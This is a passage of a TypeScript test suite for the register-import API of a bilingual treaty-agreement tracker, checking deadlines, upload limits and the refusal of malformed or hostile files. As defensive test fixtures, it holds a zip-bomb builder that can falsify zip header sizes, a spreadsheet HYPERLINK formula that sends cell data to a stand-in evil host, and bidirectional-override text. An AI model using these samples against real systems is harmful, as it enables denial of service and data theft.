      draftRow('D-03', { ...signedMou, stage: 'in_force', stage_since: '2022-06-01', in_force_on: '2022-06-01', expires_on: '2032-05-31', notice_days: '90' }),
    ];
    // the directorate's administrator imports the register, another unit's row included
    const admin = (await loginAs(t, 'admin')).token;
    const before = await t.ctx.models.Deadline.countDocuments({});
    const dry = (await request(t.app).post('/api/imports').set(bearer(admin)).attach('file', registerCsv(rows), 'register.csv').expect(200)).body;
    expect(dry.problems).to.deep.equal([]);
    expect(await t.ctx.models.Deadline.countDocuments({})).to.equal(before, 'a check creates nothing');
    await request(t.app).post('/api/imports?dryRun=false').set(bearer(admin)).attach('file', registerCsv(rows), 'register.csv').expect(201);
    const deadlinesOf = async (code: string) => {
      const a = await t.ctx.models.Agreement.findOne({ code }).lean();
      const res = await request(t.app).get(`/api/agreements/${String(a!._id)}/deadlines`).set(bearer(token)).expect(200);
      const items: Array<{ kind: string; stage: string | null; status: string; dueAt: string }> = res.body.items ?? res.body;
      return { agreement: a!, items: items.map((d) => `${d.kind}:${d.stage ?? '-'}:${d.status}:${d.dueAt}`).sort() };
    };
    // drafting: 30 working days from 2 May 2022, 17:00 Jakarta, as a move into drafting that day would give
    const drafting = await deadlinesOf('D-01');
    const draftingDue = slaDueAt(new Date('2022-05-01T17:00:00.000Z'), 30, await loadBusinessCalendar(t.ctx)).toISOString();
    expect(drafting.agreement.stageDueAt!.toISOString()).to.equal(draftingDue);
    expect(drafting.items).to.deep.equal([`stage_due:drafting:open:${draftingDue}`]);
    // awaiting signature: the stage's deadline and one per party yet to sign, due together
    const awaiting = await deadlinesOf('D-02');
    const awaitingDue = awaiting.agreement.stageDueAt!.toISOString();
    expect(awaitingDue.startsWith('2023-04')).to.equal(true);
    expect(awaiting.items).to.deep.equal([`signing_due:-:open:${awaitingDue}`, `signing_due:-:open:${awaitingDue}`, `stage_due:awaiting_signature:open:${awaitingDue}`]);
    // in force: no stage deadline, but the expiry and the renewal notice, as on entry into force
    const inForce = await deadlinesOf('D-03');
    expect(inForce.items.map((d) => d.split(':')[0])).to.deep.equal(['expiry', 'renewal_notice']);

    const overdue = await request(t.app).get('/api/agreements?overdue=true&limit=100').set(bearer(token)).expect(200);
    const overdueCodes = overdue.body.items.map((a: { code: string }) => a.code);
    expect(overdueCodes).to.include.members(['D-01', 'D-02']);
    expect(overdueCodes).not.to.include('D-03');
    // the reports count it: a stage deadline due in 2022, never met
    const summary = await request(t.app).get('/api/reports/summary?from=2022-01-01&to=2022-12-31&leadUnit=HPI').set(bearer(admin)).expect(200);
    expect(summary.body.stageDeadlines.byStage).to.deep.equal([{ stage: 'drafting', met: 0, missed: 1, onTimeShare: 0 }]);

    // Import day sends no burst of reminders for years of past deadlines: their reminders count as
    // given, and only those still ahead (the expiry's, years away) are scheduled.
    const ids = [drafting, awaiting, inForce].map((d) => d.agreement._id);
    await sweepReminders(t.ctx);
    expect(await t.ctx.models.ReminderDelivery.countDocuments({ agreementId: mongoose.trusted({ $in: ids }) }), 'reminders recorded on import day').to.equal(0);
    expect(await t.ctx.models.Notification.countDocuments({ agreementId: mongoose.trusted({ $in: ids }) }), 'notifications on import day').to.equal(0);
    const scheduled = await t.ctx.models.Deadline.find({ agreementId: mongoose.trusted({ $in: ids }) }, { kind: 1, nextReminderAt: 1 }).lean();
    expect(scheduled.map((d) => d.kind).sort()).to.deep.equal(['expiry', 'renewal_notice', 'signing_due', 'signing_due', 'stage_due', 'stage_due']);
    for (const d of scheduled) {
      if (d.kind === 'expiry') expect(d.nextReminderAt!.getTime(), 'the expiry still reminds ahead of time').to.be.greaterThan(Date.now());
      else if (d.kind === 'stage_due' || d.kind === 'signing_due') expect(d.nextReminderAt, `${d.kind} past every reminder`).to.equal(null);
    }
  });
});

/** The calendar day of an instant in Jakarta (UTC+7), where the register's dates are. */
const jakartaDay = (d: Date) => new Date(d.getTime() + 7 * 3_600_000).toISOString().slice(0, 10);

/** A bilateral MoU in drafting, as one row of a register, changed by `overrides`. */
const draftRow = (code: string, overrides: Record<string, string> = {}): Record<string, string> => ({
  ...Object.fromEntries(REGISTER_COLUMNS.map((c) => [c.key, ''])),
  code,
  type: 'mou',
  title_id: `Nota Kesepahaman ${code}`,
  title_en: `Memorandum ${code}`,
  lead_unit: 'PWNI',
  stage: 'drafting',
  stage_since: '2022-05-02',
  parties: 'Republik Indonesia [state, ID]; Malaysia [state, MY]',
  confidentiality: 'internal',
  ...overrides,
});

/** A workbook with one sheet 'Data': the header, then each row's cells as given (strings or exceljs cell values). */
async function xlsxOf(header: string[], rows: Array<Array<ExcelJS.CellValue>>): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('Data');
  sheet.addRow(header);
  for (const r of rows) sheet.addRow(r);
  return Buffer.from(await book.xlsx.writeBuffer());
}

/**
 * A small XLSX whose sheet XML inflates to `mb` megabytes (blank space inside <sheetData>, valid
 * XML that deflate squeezes about a thousand times). With `lie`, the zip's directory declares the
 * part as 1 KB, as a hostile file may.
 */
async function zipBomb(mb: number, lie = false): Promise<Buffer> {
  const base = await JSZip.loadAsync(await xlsxOf(['code'], []));
  const sheetPath = 'xl/worksheets/sheet1.xml';
  const chunk = Buffer.alloc(1024 * 1024, 0x20);
  let sent = 0;
  const body = new Readable({
    read() {
      if (sent === 0) this.push('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>');
      if (sent < mb) this.push(chunk);
      else {
        this.push('</sheetData></worksheet>');
        this.push(null);
      }
      sent++;
    },
  });
  base.file(sheetPath, body);
  const bomb = Buffer.from(await base.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } }));
  if (lie) {
    // local file header (PK\3\4): uncompressed size at +22; central directory (PK\1\2): at +24
    const name = Buffer.from(sheetPath);
    for (let at = bomb.indexOf(name); at >= 0; at = bomb.indexOf(name, at + 1)) {
      if (bomb.readUInt32LE(at - 30) === 0x04034b50) bomb.writeUInt32LE(1024, at - 30 + 22);
      else if (bomb.readUInt32LE(at - 46) === 0x02014b50) bomb.writeUInt32LE(1024, at - 46 + 24);
    }
  }
  return bomb;
}

/** The highest resident memory seen, sampled every few milliseconds while `work` runs. */
async function peakMemoryDuring<T>(work: () => Promise<T>): Promise<{ result: T; growthMb: number }> {
  global.gc?.();
  const baseline = process.memoryUsage().rss;
  let peak = baseline;
  const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 5);
  try {
    const result = await work();
    peak = Math.max(peak, process.memoryUsage().rss);
    return { result, growthMb: (peak - baseline) / (1024 * 1024) };
  } finally {
    clearInterval(timer);
  }
}

describe('imports: bounds and refusals of a hostile or mistaken register', function () {
  this.timeout(60_000);
  let t: TestApp;
  let token: string;
  const dryRun = (file: Buffer, name: string) => request(t.app).post('/api/imports').set(bearer(token)).attach('file', file, name);
  const problemsOf = (body: { problems: Array<{ row: number; column: string }> }) => body.problems.map((p) => `${p.row}:${p.column}`);

  before(async () => {
    t = await createTestApp({ label: 'imports_bounds' });
    await ensureShippedIndices(t.ctx);
    token = (await loginAs(t, 'drafter')).token;
  });
  after(async () => t.close());

  it('when the file is larger than IMPORT_MAX_BYTES, then 413 says so in both languages before anything is read', async () => {
    const small = await createTestApp({ label: 'imports_small', env: { IMPORT_MAX_BYTES: String(64 * 1024) }, database: undefined });
    try {
      const drafter = (await loginAs(small, 'drafter')).token;
      const big = registerCsv(Array.from({ length: 600 }, (_, i) => draftRow(`BIG-${String(i).padStart(4, '0')}`)));
      expect(big.length).to.be.greaterThan(64 * 1024);
      const res = await request(small.app).post('/api/imports').set(bearer(drafter)).attach('file', big, 'big.csv');
      expectError(res, 413, 'payload_too_large');
      expect(res.body.error.message).to.match(/larger than the upload limit/).and.to.match(/melebihi batas/);
      // a file under the limit is still read
      await request(small.app).post('/api/imports').set(bearer(drafter)).attach('file', registerCsv([draftRow('SMALL-01')]), 'small.csv').expect(200);
    } finally {
      await small.close();
    }
  });

  it('when a CSV has more rows than an import takes, then 422 "too many rows" answers at once, reading no further; an endless record is refused too', async () => {
    const header = REGISTER_COLUMNS.map((c) => c.key).join(',');
    // 4.5 million one-cell rows in 9 MB: the parser stops one row past the limit
    const huge = Buffer.from(`${header}\n${'a\n'.repeat(4_500_000)}`);
    const res = await dryRun(huge, 'huge.csv');
    expectError(res, 422, 'unprocessable');
    expect(res.body.error.details).to.include({ reason: 'too_many_rows', limit: 20_000 });
    expect(res.body.error.message).to.match(/Too many rows/).and.to.match(/Terlalu banyak baris/);
    expect(await t.ctx.models.ImportJob.countDocuments({}), 'no job is started for a file refused while reading').to.equal(0);

    const endless = Buffer.from(`${header}\n"${'x'.repeat(300_000)}`);
    const open = await dryRun(endless, 'open-quote.csv');
    expectError(open, 422, 'unprocessable');
    expect(open.body.error.details.reason).to.equal('record_too_long');
  });

  it('when an XLSX has more rows than an import takes, then 422 "too many rows"', async () => {
    const rows = Array.from({ length: 20_001 }, (_, i) => [`X-${i + 1}`]);
    const res = await dryRun(await xlsxOf(REGISTER_COLUMNS.map((c) => c.key), rows), 'many.xlsx');
    expectError(res, 422, 'unprocessable');
    expect(res.body.error.details.reason).to.equal('too_many_rows');
  });

  it('when a small XLSX inflates to 200 megabytes (a zip bomb), then it is refused with 422 before it is unpacked, even when its directory lies about the size', async () => {
    for (const lie of [false, true]) {
      const bomb = await zipBomb(200, lie);
      expect(bomb.length, 'the bomb itself is small').to.be.lessThan(1024 * 1024);
      const { result: res, growthMb } = await peakMemoryDuring(() => dryRun(bomb, 'bomb.xlsx'));
      expectError(res, 422, 'unprocessable');
      expect(res.body.error.details.reason, `lie: ${lie}`).to.equal('inflates_too_much');
      expect(growthMb, `memory grew by ${Math.round(growthMb)} MB (lie: ${lie})`).to.be.lessThan(200);
    }
  });

  it('when a register needs more memory to read than IMPORT_READ_MEMORY_MB, then it is refused with 422 in both languages, nothing is created, and the next file is read', async () => {
    // 20,000 rows of long titles: about 57 MB of text, which a reader capped at 64 MB cannot hold
    const tight = await createTestApp({ label: 'imports_tight', env: { IMPORT_READ_MEMORY_MB: '64', IMPORT_MAX_BYTES: String(64 * 1024 * 1024) }, database: undefined });
    try {
      const drafter = (await loginAs(tight, 'drafter')).token;
      const wide = registerCsv(Array.from({ length: 20_000 }, (_, i) => draftRow(`WIDE-${i + 1}`, { title_id: 'x'.repeat(2_500) })));
      expect(wide.length).to.be.greaterThan(50 * 1024 * 1024);
      const res = await request(tight.app).post('/api/imports?dryRun=false').set(bearer(drafter)).attach('file', wide, 'wide.csv');
      expectError(res, 422, 'unprocessable');
      expect(res.body.error.details).to.deep.equal({ reason: 'too_complex', limitMb: 64 });
      expect(res.body.error.message)
        .to.match(/needs more memory than an import may use \(64 MB\); split the register into several files/)
        .and.to.match(/memerlukan memori melebihi batas impor \(64 MB\); bagi register menjadi beberapa berkas/);
      expect(await tight.ctx.models.Agreement.countDocuments({})).to.equal(0);
      expect(await tight.ctx.models.ImportJob.countDocuments({}), 'no job is started for a file refused while reading').to.equal(0);
      // the service goes on: the next register is read under the same cap
      const next = await request(tight.app).post('/api/imports').set(bearer(drafter)).attach('file', registerCsv([draftRow('NEXT-01')]), 'next.csv').expect(200);
      expect(next.body).to.include({ rows: 1, valid: 1 });
    } finally {
      await tight.close();
    }
  });

  it('when the file sent is not a register at all (an SVG, a PDF or a PNG named .csv, a Word file named .xlsx, an .xls), then 422 says in both languages what it is and to send a CSV or XLSX, not a word about quote marks', async () => {
    const svg = fs.readFileSync(new URL('../../web/favicon.svg', import.meta.url));
    const png = Buffer.from(new Resvg(svg).render().asPng());
    const word = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('Daftar perjanjian PWNI')] }] }));
    // an Excel 97-2003 file begins with the signature of its container (OLE2), whatever follows
    const xls = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]);
    const sent: Array<[Buffer, string, string, RegExp, RegExp]> = [
      [svg, 'logo-pwni.svg', 'svg', /^This file is an SVG image, not a register in CSV or XLSX\. Send the register as an XLSX workbook or a CSV file/, /^Berkas ini adalah gambar SVG, bukan register dalam format CSV atau XLSX\. Kirim register sebagai buku kerja XLSX atau berkas CSV/],
      [svg, 'register.csv', 'svg', /an SVG image/, /gambar SVG/],
      [await textPdf(), 'register.csv', 'pdf', /^This file is a PDF document, not a register/, /^Berkas ini adalah dokumen PDF, bukan register/],
      [png, 'register.csv', 'png', /^This file is a PNG image, not a register/, /^Berkas ini adalah gambar PNG, bukan register/],
      [word, 'register.xlsx', 'docx', /^This file is a Word document, not a register/, /^Berkas ini adalah dokumen Word, bukan register/],
      [xls, 'register-lama.xls', 'office_97', /save it as "Excel Workbook \(\.xlsx\)"/, /simpan sebagai "Excel Workbook \(\.xlsx\)"/],
    ];
    for (const [file, name, kind, en, id] of sent) {
      const res = await dryRun(file, name);
      expectError(res, 422, 'unprocessable');
      expect(res.body.error.details, name).to.deep.equal({ reason: 'not_a_register', kind });
      const [english, indonesian] = res.body.error.message.split(' / ');
      expect(english, `${name}: English`).to.match(en);
      expect(indonesian, `${name}: Indonesian`).to.match(id);
      expect(res.body.error.message, name).not.to.match(/quote|kutip|UTF-8 text|header|judul kolom|no sheet/i);
    }
    // a register keeps being read as one: a CSV whose first value begins with a PDF-like word is no PDF
    const res = await dryRun(registerCsv([draftRow('PDF-01', { title_en: '%PDF-style memorandum' })]), 'register.csv').expect(200);
    expect(res.body.valid).to.equal(1);
  });

  it('when a CSV is not UTF-8 (Latin-1 bytes), then 422 asks for CSV UTF-8 instead of storing U+FFFD', async () => {
    const text = registerCsv([draftRow('LAT-01', { title_id: 'Kerjasama Indonésia' })]).toString('utf8').replace(/^\uFEFF/, '');
    const res = await dryRun(Buffer.from(text, 'latin1'), 'latin1.csv');
    expectError(res, 422, 'unprocessable');
    expect(res.body.error.details.reason).to.equal('not_utf8');
  });

  it('when rows break the limits and patterns of the agreement form, then each is a problem with its row and column in both languages, as POST /api/agreements would refuse it', async () => {
    await createAgreementVia(t, token, { code: 'MOU-XX-2020-01' });
    const parties60 = Array.from({ length: 60 }, (_, i) => `Negara ${i + 1} [state]`).join('; ');
    const rows = [
      draftRow('LIM-01', { title_en: 'Memorandum '.repeat(60) }), // 659 characters once trimmed
      draftRow('=HYPERLINK("http://evil.example/?x="&C2,"Klik")'),
      draftRow('LIM-03', { lead_unit: '*', confidentiality: 'confidential' }),
      draftRow('LIM-04', { stage_since: '0001-01-01' }),
      draftRow('LIM-05', { title_id: 'Judul\u0000dengan\u001bkendali', title_en: 'Title\u202Eevil' }),
      draftRow('mou-xx-2020-01'),
      draftRow('LIM-07', { parties: parties60 }),
      draftRow('LIM-08', { signatories: `${'Nama '.repeat(50)}, Menteri; Datuk Seri, Menteri`, stage: 'negotiation', stage_since: '2022-06-01' }),
      draftRow('LIM-09', { subjects: 'pelindungan; ' + 's'.repeat(100), notice_days: '4000', signed_at_place: 'K'.repeat(201) }),
      draftRow('LIM-10', { languages: 'id; id' }),
      draftRow('lim-11'),
    ];
    const res = await dryRun(registerCsv(rows), 'limits.csv').expect(200);
    expect(problemsOf(res.body)).to.deep.equal([
      '2:title_en',
      '3:code',
      '4:lead_unit',
      '5:stage_since',
      '6:title_id',
      '6:title_en',
      '7:code',
      '8:parties',
      '9:signatories',
      '10:signed_at_place',
      '10:notice_days',
      '10:subjects',
      '11:languages',
    ]);
    const byWhere = Object.fromEntries(res.body.problems.map((p: { row: number; column: string; message: { en: string; id: string } }) => [`${p.row}:${p.column}`, p.message]));
    expect(byWhere['2:title_en'].en).to.match(/659 characters; at most 500/);
    expect(byWhere['2:title_en'].id).to.match(/paling banyak 500/);
    expect(byWhere['4:lead_unit'].en).to.match(/is not a unit/);
    expect(byWhere['5:stage_since'].en).to.match(/outside 1945-01-01/);
    expect(byWhere['6:title_id'].en).to.match(/control character/);
    expect(byWhere['6:title_en'].en).to.match(/bidirectional override/);
    expect(byWhere['7:code'].en).to.equal('MOU-XX-2020-01 is already in the tracker');
    // a code in lower case is the same code: stored as the form stores it
    expect(res.body.agreements.map((a: { code: string }) => a.code)).to.deep.equal(['LIM-11']);
  });

  it('when a header is written in another case, then it is read; when one is misspelt or repeated, then the file is refused naming it, so a confidential register is never imported as internal', async () => {
    const keys = REGISTER_COLUMNS.map((c) => c.key);
    const good = draftRow('CAP-01', { confidentiality: 'confidential' });
    const withHeader = (header: string[], values: string[]) => Buffer.from(`${header.join(',')}\n${values.map((v) => `"${v}"`).join(',')}\n`);

    const cased = keys.map((k) => (k === 'confidentiality' ? ' Confidentiality ' : k === 'title_en' ? 'TITLE_EN' : k));
    const created = await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', withHeader(cased, keys.map((k) => good[k])), 'cased.csv').expect(201);
    expect(created.body.valid).to.equal(1);
    const stored = await t.ctx.models.Agreement.findOne({ code: 'CAP-01' }).lean();
    expect(stored!.confidentiality).to.equal('confidential');
    expect(stored!.title.en).to.equal('Memorandum CAP-01');

    const misspelt = keys.map((k) => (k === 'confidentiality' ? 'confidentialty' : k));
    const refused = await dryRun(withHeader(misspelt, keys.map((k) => good[k])), 'misspelt.csv');
    expectError(refused, 422, 'validation_failed');
    expect(refused.body.error.message).to.contain('confidentialty');
    const letter = (k: number) => String.fromCharCode(65 + k); // fewer than 26 columns
    expect(refused.body.error.details).to.deep.include({ field: 'confidentialty', column: letter(keys.indexOf('confidentiality')), message: `unknown column; the columns are: ${keys.join(', ')} / kolom tidak dikenal; kolom yang ada: ${keys.join(', ')}` });

    const twice = [...keys, 'confidentiality'];
    const repeated = await dryRun(withHeader(twice, [...keys.map((k) => good[k]), 'public']), 'twice.csv');
    expectError(repeated, 422, 'validation_failed');
    expect(repeated.body.error.details.map((d: { field: string; column: string }) => `${d.column}:${d.field}`)).to.deep.equal([`${letter(keys.length)}:confidentiality`]);

    const xlsxTwice = await dryRun(await xlsxOf(twice, [[...keys.map((k) => good[k]), '']]), 'twice.xlsx');
    expectError(xlsxTwice, 422, 'validation_failed');
    expect(await t.ctx.models.Agreement.countDocuments({ code: 'CAP-01' })).to.equal(1);
  });

  it('when a header row has unknown headers, a repeated one, a formula and missing required columns at once, then one 422 names every one of them, each as what it is, in both languages', async () => {
    const keys = REGISTER_COLUMNS.map((c) => c.key);
    // "Kode" for code and "Judul (EN)" for title_en, as an Indonesian register often heads them; a note column of its own; lead_unit left out
    const header = [...keys.filter((k) => k !== 'lead_unit').map((k) => (k === 'code' ? 'Kode' : k === 'title_en' ? 'Judul (EN)' : k)), 'catatan'];
    const values = header.map(() => 'x');
    const letter = (k: number) => String.fromCharCode(65 + k); // fewer than 26 columns
    const at = (name: string) => letter(header.indexOf(name));
    const refused = await dryRun(Buffer.from(`${header.join(',')}\n${values.join(',')}\n`), 'kolom-campur.csv');
    expectError(refused, 422, 'validation_failed');
    const [en, id] = refused.body.error.message.split(' / ');
    expect(en).to.contain(`unknown columns: Kode (${at('Kode')}), Judul (EN) (${at('Judul (EN)')}), catatan (${at('catatan')})`);
    expect(en).to.contain('missing required columns: code, title_en, lead_unit');
    expect(id).to.contain(`kolom tidak dikenal: Kode (${at('Kode')}), Judul (EN) (${at('Judul (EN)')}), catatan (${at('catatan')})`);
    expect(id).to.contain('kolom wajib yang tidak ada: code, title_en, lead_unit');
    const named = (body: { error: { details: Array<{ field: string; column: string; message: string }> } }) => body.error.details.map((d) => `${d.column}:${d.field}:${d.message.split(';')[0]}`);
    expect(named(refused.body)).to.deep.equal([
      `${at('Kode')}:Kode:unknown column`,
      `${at('Judul (EN)')}:Judul (EN):unknown column`,
      `${at('catatan')}:catatan:unknown column`,
      ':code:missing column / kolom tidak ada',
      ':title_en:missing column / kolom tidak ada',
      ':lead_unit:missing column / kolom tidak ada',
    ]);

    // the same header in a workbook, with a formula heading one column and stage written twice: still one answer
    const cells: ExcelJS.CellValue[] = [...header, 'stage'];
    cells[header.indexOf('type')] = { formula: 'LOWER("TYPE")', result: 'type' };
    const workbook = await dryRun(await xlsxOf(cells as string[], [[...values, 'x']]), 'kolom-campur.xlsx');
    expectError(workbook, 422, 'validation_failed');
    const [wEn, wId] = workbook.body.error.message.split(' / ');
    expect(wEn).to.contain(`unknown columns: Kode (${at('Kode')})`);
    expect(wEn).to.contain(`columns written twice: stage (${at('stage')}, ${letter(header.length)})`);
    expect(wEn).to.contain(`columns with a formula or an error for a name: ${at('type')}`);
    expect(wEn).to.contain('missing required columns: code, type, title_en, lead_unit');
    expect(wId).to.contain(`kolom yang namanya berupa rumus atau galat: ${at('type')}`);
    expect(wId).to.contain('kolom wajib yang tidak ada: code, type, title_en, lead_unit');
    const problems = named(workbook.body);
    expect(problems).to.include(`${at('type')}::column ${at('type')}: the cell holds a formula: copy the column and paste it back as values only / kolom ${at('type')}: sel berisi rumus: salin kolomnya lalu tempel kembali sebagai nilai saja`);
    expect(problems).to.include(`${at('catatan')}:catatan:unknown column`);
    expect(problems).to.include(`${letter(header.length)}:stage:the column stage is also in column ${at('stage')} / kolom stage juga ada di kolom ${at('stage')}`);
    expect(problems).to.include(':lead_unit:missing column / kolom tidak ada');
  });

  it('when XLSX cells hold rich text, then their plain text is read; when one holds a formula, then it is a problem of its row and column, never "[object Object]"', async () => {
    const keys = REGISTER_COLUMNS.map((c) => c.key);
    const cells = (r: Record<string, ExcelJS.CellValue>) => keys.map((k) => r[k]);
    const rich = { ...draftRow('RICH-01'), title_en: { richText: [{ text: 'Memorandum ', font: { bold: true } }, { text: 'on Labour' }] } };
    const formula = { ...draftRow('FORM-01'), title_id: { formula: 'CONCATENATE("Nota ","Kesepahaman")', result: 'Nota Kesepahaman' } };
    const file = await xlsxOf(keys, [cells(rich), cells(formula)]);
    const res = await dryRun(file, 'cells.xlsx').expect(200);
    expect(problemsOf(res.body)).to.deep.equal(['3:title_id']);
    expect(res.body.problems[0].message.en).to.match(/formula/);
    expect(res.body.problems[0].message.id).to.match(/rumus/);
    const refused = await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', file, 'cells.xlsx');
    expectError(refused, 422, 'validation_failed');
    const onlyRich = await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', await xlsxOf(keys, [cells(rich)]), 'rich.xlsx').expect(201);
    expect(onlyRich.body.valid).to.equal(1);
    const stored = await t.ctx.models.Agreement.findOne({ code: 'RICH-01' }).lean();
    expect(stored!.title.en).to.equal('Memorandum on Labour');
  });
});
